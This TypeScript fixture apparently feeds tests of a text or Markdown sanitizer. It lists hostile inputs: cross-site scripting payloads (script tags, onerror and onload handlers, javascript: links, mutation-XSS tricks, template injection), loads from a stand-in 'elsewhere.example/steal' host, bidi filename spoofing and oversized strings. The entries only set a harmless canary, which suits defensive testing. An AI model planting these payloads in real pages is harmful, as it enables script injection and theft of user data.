/** A global that every one of {@link hostileTexts} tries to set, or a name that they try to load. */
export const canary = "limnCanary"

const set = `globalThis.${canary}=1`
const far = "https://elsewhere.example/steal"

/** Texts that would do something where a page took them for more than text. */
export const hostileTexts: readonly string[] = [
  `<script>${set}</script>`,
  `<script src="${far}.js"></script>`,
  `"><img src=x onerror="${set}">`,
  `<img src="${far}.png">`,
  `<svg><script>${set}</script><animate onbegin="${set}" attributeName=x dur=1s></svg>`,
  `<svg/onload=${set}>`,
  `<iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${canary}=1</script>"></iframe>`,
  `<details open ontoggle="${set}">x</details>`,
  `<style>@import "${far}.css"; body{display:none}</style>`,
  `<link rel=stylesheet href="${far}.css"><base href="${far}/"><meta http-equiv=refresh content="0;url=${far}">`,
  `<form action="${far}"><button>Press</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${set}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${set}>">`,
  `[a link](javascript:${set})`,
  `[a link](JaVaScRiPt&#58;${set})`,
  `[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![a picture](${far}.png "title")`,
  `![x](x"onerror="${set})`,
  `[ref]: javascript:${set}\n\n[a reference][ref]`,
  `<a href="javascript:${set}">a</a> <a href="//elsewhere.example" onclick="${set}">b</a>`,
  '```html\n<img src=x onerror="' + set + '">\n```',
  `\`</code><img src=x onerror="${set}">\``,
  `| <img src=x onerror=${set}> |\n|---|\n| <b> |`,
  `{{constructor.constructor('${set}')()}} \${${set}} #{${set}} <%= ${set} %>`,
  `&lt;script&gt;${set}&lt;/script&gt;`,
  "abc\u202Egnp.exe\u202C \u2066def\u2069 \u200F",
  `${"\u0301".repeat(200)}a`,
  "W".repeat(3000),
  `<${"x".repeat(400)} onclick=${set}>`,
  "\u0000\u0001\u001B[31m\uFFFE\uFFFF",
]
